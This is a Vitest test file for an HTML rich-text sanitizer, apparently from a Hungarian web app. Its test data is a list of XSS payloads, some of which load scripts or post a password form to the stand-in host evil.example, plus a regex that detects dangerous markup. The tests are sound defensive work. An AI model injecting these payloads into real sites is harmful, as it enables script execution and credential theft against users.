import { describe, expect, it } from 'vitest';
import { cleanRichText, isBlank } from './rich-text.ts';

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#106;avascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/login">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https://a.hu" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<style>body{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name="password"><button>ok</button></form>',
  '<p onmouseover=alert(1) class="trap" id="content">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<template><script>alert(1)</script></template>',
  '<video><source onerror="alert(1)"></video>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<p>x<!-- --!><img src=x onerror=alert(1)> --></p>',
  '<<script>script>alert(1)</script>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="https://ok.hu" target="opener" rel="opener">x</a>',
];

/** A browser would have to find one of these for anything to happen. */
const dangerous =
  /<\s*(script|style|iframe|frame|object|embed|svg|math|img|video|link|meta|base|form|input|template|noscript|textarea|details)\b|\son\w+\s*=|style\s*=|class\s*=|\sid\s*=|href\s*=\s*["']?\s*(javascript|data|vbscript|\/\/|\/\\)|<!--/i;

describe('rich text', () => {
  it.each(attacks)('keeps nothing dangerous of %s', (attack) => {
    const cleaned = cleanRichText(`<p>előtte</p>${attack}<p>utána</p>`);
    expect(cleaned.replaceAll('&lt;', '')).not.toMatch(dangerous);
    expect(cleaned).toContain('<p>előtte</p>');
  });

  it('is the same when it is cleaned again', () => {
    for (const attack of attacks) expect(cleanRichText(cleanRichText(attack))).toBe(cleanRichText(attack));
  });

  it('keeps what the editor makes', () => {
    const html =
      '<h3>Cím</h3><p><strong>félkövér</strong> <em>dőlt</em> <u>alá</u> <s>át</s></p><ul><li><p>egy</p></li></ul><ol><li><p>kettő</p></li></ol><blockquote><p>idézet</p></blockquote>';
    expect(cleanRichText(html)).toBe(html);
  });

  it('opens foreign links apart, without a word about us, and own links in the program', () => {
    expect(cleanRichText('<a href="https://a.hu">x</a>')).toBe(
      '<a href="https://a.hu" target="_blank" rel="noopener noreferrer nofollow">x</a>',
    );
    expect(cleanRichText('<a href="/medias" target="_blank">x</a>')).toBe('<a href="/medias">x</a>');
  });

  it('ends in reasonable time and depth, however deep it is nested', () => {
    const cleaned = cleanRichText(`${'<blockquote>'.repeat(1500)}x`);
    expect(cleaned.match(/<blockquote>/g)?.length).toBeLessThanOrEqual(20);
  });

  it.each(['', '<p></p>', '<p>&nbsp;</p>', '<p> <br></p>', '<script>x</script>'])('%j is blank', (html) => {
    expect(isBlank(cleanRichText(html))).toBe(true);
  });
});
